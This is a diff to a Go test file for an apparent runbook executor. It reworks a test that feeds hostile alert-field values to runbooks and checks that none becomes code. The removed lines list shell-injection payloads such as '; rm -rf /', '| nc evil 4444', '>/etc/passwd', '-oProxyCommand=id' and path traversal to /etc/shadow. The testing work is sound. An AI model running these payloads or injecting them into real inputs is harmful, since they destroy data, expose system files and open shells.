@@ -10,6 +10,7 @@ import (
 	"github.com/stretchr/testify/require"
 
 	amsv1 "github.com/amsproject/ams/proto/ams/v1"
+	"github.com/amsproject/ams/services/executor/internal/injection"
 )
 
 func loadExample(t testing.TB, file string) *Runbook {
@@ -125,58 +126,24 @@ func TestParametersNotLoaded(t *testing.T) {
 	require.ErrorContains(t, err, "parameter host is not compiled; load runbooks with Load")
 }
 
-// hostileValues builds the injection corpus: values an attacker could put
-// in an alert label or resource field hoping it becomes code.
-func hostileValues() []string {
-	bases := []string{"web-01", "/var/log", "i-0123456789abcdef0", "nginx.service", "db1.example.com"}
-	payloads := []string{
-		";reboot", "; rm -rf /", "|id", "| nc evil 4444", "&&id", "& id", "||true",
-		"$(id)", "$(reboot)", "${IFS}id", "$HOME", "`id`", "`reboot`",
-		"\nid", "\r\nid", "\tid", " id", "'", "\"", "';id;'", "\";id;\"",
-		"<x", ">/etc/passwd", ">>x", "2>&1", "(id)", "{a,b}", "*", "?", "[a-z]",
-		"\x00", "\x00id", "\x1b[31m", "\\", "%0aid", "#", "!",
+// inert reports whether v holds nothing a shell or a program would read
+// as syntax or an option: no shell metacharacter, no control character,
+// no leading "-". The corpus has such values too ("xay", "é", "a=b"); a
+// pattern may take them.
+func inert(v string) bool {
+	if strings.ContainsAny(v, shellMeta) || strings.HasPrefix(v, "-") {
+		return false
 	}
-	var vals []string
-	for _, b := range bases {
-		for _, p := range payloads {
-			vals = append(vals, b+p, p+b)
+	for _, c := range v {
+		if c < 0x20 || c == 0x7f {
+			return false
 		}
 	}
-	// Options rather than values.
-	for _, o := range []string{"-rf", "--help", "-oProxyCommand=id", "--output=/etc/passwd", "-", "--", "-n", "--path=/"} {
-		vals = append(vals, o)
-	}
-	// Path traversal and globs.
-	for _, p := range []string{"../../etc/passwd", "/var/../../etc/shadow", "/tmp/*", "/var/log/*.log", "..", "/..", "web-01/../x", "/var/log/?", "~root"} {
-		vals = append(vals, p)
-	}
-	// Very long values.
-	vals = append(vals, strings.Repeat("a", 10_000), "/"+strings.Repeat("a", 10_000), strings.Repeat("i-0", 4000))
-	// Unicode look-alikes of safe characters and separators.
-	for _, u := range []string{
-		"web\u201101",   // non-breaking hyphen
-		"web\u221201",   // minus sign
-		"\u2013rf",      // en dash as an option
-		"web\uff1bid",   // fullwidth semicolon
-		"web\u037eid",   // Greek question mark, looks like ;
-		"w\u0435b-01",   // Cyrillic e
-		"web-01\u200b",  // zero-width space
-		"web-01\u202e",  // right-to-left override
-		"/var\u2215log", // division slash
-		"i-0123456789abcdef\u0030\u0301",
-		"nginx\uff0eservice", // fullwidth full stop
-		"web\u00a001",        // no-break space
-		"\ufeffweb-01",       // byte-order mark
-	} {
-		vals = append(vals, u)
-	}
-	// Invalid UTF-8.
-	vals = append(vals, "web-01\xff", "\xc0\xafetc")
-	return vals
+	return true
 }
 
 func TestInjectionCorpus(t *testing.T) {
-	vals := hostileValues()
+	vals := injection.Corpus()
 	require.GreaterOrEqual(t, len(vals), 200)
 
 	runbooks := []*Runbook{
@@ -222,9 +189,16 @@ func TestInjectionCorpus(t *testing.T) {
 				a := inject(field, v)
 				got, err := rb.Parameters(t.Context(), a, nil)
 				if err == nil {
-					// The field is not read by this runbook: the values
-					// must be the good ones, untouched.
-					require.Equal(t, goodValues[rb.Name], got, "%s took the hostile value %q in %s", rb.Name, v, field)
+					// The field is not read by this runbook, or the value
+					// is inert and fits its patterns: every parameter holds
+					// the good value or, whole, this one.
+					for name, val := range got {
+						if val == goodValues[rb.Name][name] {
+							continue
+						}
+						require.Equal(t, v, val, "%s changed the value of %s read from %s", rb.Name, name, field)
+						require.True(t, inert(v), "%s took the hostile value %q in %s", rb.Name, v, field)
+					}
 					continue
 				}
 				checked++
